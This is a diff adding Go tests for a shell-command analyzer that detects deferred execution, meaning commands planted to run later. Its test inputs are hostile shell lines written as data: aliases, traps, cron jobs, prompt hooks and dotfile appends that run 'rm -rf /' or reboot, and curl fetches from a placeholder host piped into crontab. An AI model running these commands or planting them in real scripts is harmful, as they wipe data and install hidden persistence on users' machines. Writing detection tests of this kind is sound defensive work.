@@ -1,0 +1,123 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// laterSummary is summary with each invocation the line defines to run
+// later marked "later:".
+func laterSummary(a *Analysis) string {
+	var parts []string
+	for _, inv := range a.Invocations {
+		s := summary(&Analysis{Invocations: []*Invocation{inv}})
+		if inv.Deferred != "" {
+			s = "later:" + s
+		}
+		parts = append(parts, s)
+	}
+	rest := summary(&Analysis{Incomplete: a.Incomplete, ParseError: a.ParseError, Problems: a.Problems})
+	if rest != "" {
+		parts = append(parts, rest)
+	}
+	return strings.Join(parts, "; ")
+}
+
+func TestDeferred(t *testing.T) {
+	tests := []struct {
+		d          Dialect
+		line, want string
+	}{
+		// Aliases: the value is the code.
+		{Bash, `alias ls='rm -rf /'`, `later:rm delete:/+R; alias`},
+		{Bash, `alias ll='ls -l' x='reboot'`, `later:ls; later:reboot power:; alias`},
+		{Bash, `alias ll`, `alias`},
+		{Bash, `alias reboot='sudo reboot'`, `alias`}, // judged when typed
+		{Bash, `alias x="rm -rf $D"`, `later:rm delete:+R+D; alias`},
+		{Bash, `alias x=$(curl -s https://x.example/a)`, `curl; later:alias unseen-code:https://x.example/a+D; alias`},
+		{Zsh, `alias -g L='| less'`, `later::; later:less; alias`},
+		{Zsh, `alias -g X='| sh -c "rm -rf /"'`, `later::; later:[sh -c]rm delete:/+R; alias`},
+		{Fish, `alias x 'rm -rf /'`, `later:rm delete:/+R; alias`},
+		{Fish, `abbr -a x 'rm -rf /'`, `later:rm delete:/+R; abbr`},
+		{Fish, `abbr -e x`, `abbr`},
+		// Traps.
+		{Bash, `trap 'rm -rf /' EXIT`, `later:rm delete:/+R; trap`},
+		{Bash, `trap - EXIT`, `trap`},
+		{Bash, `trap '' INT`, `trap`},
+		{Bash, `trap 1 2 15`, `trap`},
+		{Bash, `trap -p EXIT`, `trap`},
+		{Bash, `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT`, `mktemp; later:rm delete:/tmp/tmp.…+R; trap`},
+		{Bash, `trap "trap 'reboot' INT" EXIT`, `later:reboot power:; later:trap; trap`},
+		// Variables run as code, or whose substitutions run.
+		{Bash, `PROMPT_COMMAND=reboot`, `later:reboot power:`},
+		{Bash, `PROMPT_COMMAND+=('history -a' reboot)`, `later:history; later:reboot power:`},
+		{Bash, `PROMPT_COMMAND="$PROMPT_COMMAND; history -a"`, `later:history`},
+		{Bash, `PS1='\u@\h:\w\$ '`, ``},
+		{Bash, `PS1='$(reboot) \$ '`, `later:reboot power:`},
+		{Bash, `PS4='$(rm -rf /)'`, `later:rm delete:/+R`},
+		{Bash, `PROMPT_COMMAND=reboot bash -i`, `later:reboot power:; bash`},
+		// Key bindings and completions.
+		{Bash, `bind -x '"\C-m": reboot'`, `later:reboot power:; bind`},
+		{Bash, `bind '"\e[A": history-search-backward'`, `bind`},
+		{Bash, `complete -C 'rm -rf /' ls`, `later:rm delete:/+R; complete`},
+		{Bash, `complete -W '$(reboot)' x`, `later:reboot power:; complete`},
+		{Bash, `complete -F _git git`, `complete`},
+		{Fish, `bind \cm reboot`, `later:reboot power:; bind`},
+		{Fish, `complete -c x -a '(reboot)'`, `later:reboot power:; later:echo; complete`},
+		// crontab: its input is a user crontab.
+		{Bash, `crontab <<< '* * * * * /sbin/reboot'`, `later:reboot power:; crontab`},
+		{Bash, `echo '@reboot rm -rf /' | crontab -`, `echo; later:rm delete:/+R; crontab`},
+		{Bash, `echo '* * * * * sh %rm -rf /%' | crontab -`, `echo; later:[sh <<<]rm delete:/+R; crontab`},
+		{Bash, `crontab -l | grep -v x | crontab -`, `crontab; grep; crontab`},
+		{Bash, `curl -s https://x.example/c | crontab -`, `curl; later:crontab unseen-code:https://x.example/c+D; crontab`},
+		{Bash, `crontab mycron.txt`, `crontab`},
+		{Bash, `crontab -r`, `crontab`},
+		// Files whose code runs later.
+		{Bash, `echo reboot >> ~/.bashrc`, `later:reboot power:; echo append:/home/u/.bashrc`},
+		{Bash, `echo 'alias ll="ls -l"' >> ~/.bashrc`, `later:ls; later:alias; echo append:/home/u/.bashrc`},
+		{Bash, `echo reboot | sudo tee -a /etc/profile`, `echo; later:[sudo]reboot power:; [sudo]tee append:/etc/profile`},
+		{Bash, `echo '@reboot root rm -rf /' > /etc/cron.d/x`, `later:rm delete:/+R; echo write:/etc/cron.d/x`},
+		{Bash, `echo '@reboot rm -rf /' > /etc/cron.d/x`, `later:-rf; echo write:/etc/cron.d/x`}, // run as the user rm: -rf /, as cron would
+		{Bash, "printf '[Service]\\nExecStart=-/sbin/reboot\\n' > /etc/systemd/system/x.service", `later:reboot power:; printf write:/etc/systemd/system/x.service`},
+		{Bash, `sed -i '$a reboot' ~/.bashrc`, `sed edit:/home/u/.bashrc; later:reboot power:`},
+		{Bash, `sed -i 's/a/b/' ~/.bashrc`, `sed edit:/home/u/.bashrc`},
+		{Bash, `cat dotfiles/bashrc >> ~/.bashrc`, `cat append:/home/u/.bashrc`},
+		{Bash, `echo reboot >> notes.txt`, `echo append:/home/u/notes.txt`},
+		{Fish, `echo reboot >> ~/.config/fish/config.fish`, `later:reboot power:; echo append:/home/u/.config/fish/config.fish`},
+	}
+	for _, tt := range tests {
+		o := testOpts
+		o.Dialect = tt.d
+		got := laterSummary(Analyze(tt.line, o))
+		if got != tt.want {
+			t.Errorf("Analyze(%s, %q)\n got: %s\nwant: %s", tt.d, tt.line, got, tt.want)
+		}
+	}
+}
+
+// TestDeferredPhrase checks what an invocation says defines it.
+func TestDeferredPhrase(t *testing.T) {
+	tests := []struct{ line, want string }{
+		{`alias ls='rm -rf /'`, `defines an alias ls, run when ls is typed`},
+		{`trap 'rm -rf /' EXIT INT`, `sets a trap, run when the shell exits, on INT`},
+		{`PROMPT_COMMAND=reboot`, `sets PROMPT_COMMAND, run before every prompt`},
+		{`echo '* * * * * reboot' | crontab -`, `installs a cron job, run every minute`},
+		{`echo '0 3 * * * root reboot' > /etc/cron.d/x`, `writes to /etc/cron.d/x a cron job, run at '0 3 * * *' as root`},
+		{`echo reboot >> ~/.bashrc`, `adds to /home/u/.bashrc code run in every new interactive bash`},
+		{`trap "trap 'reboot' INT" EXIT`, `sets a trap, run when the shell exits`}, // the outermost names it
+		{"alias $'\\e[31m'='reboot'", `defines an alias $'\x1b[31m', run when $'\x1b[31m' is typed`},
+	}
+	for _, tt := range tests {
+		a := Analyze(tt.line, testOpts)
+		got := ""
+		for _, inv := range a.Invocations {
+			if inv.Deferred != "" {
+				got = inv.Deferred
+				break
+			}
+		}
+		if got != tt.want {
+			t.Errorf("Analyze(%q): deferred %q, want %q", tt.line, got, tt.want)
+		}
+	}
+}
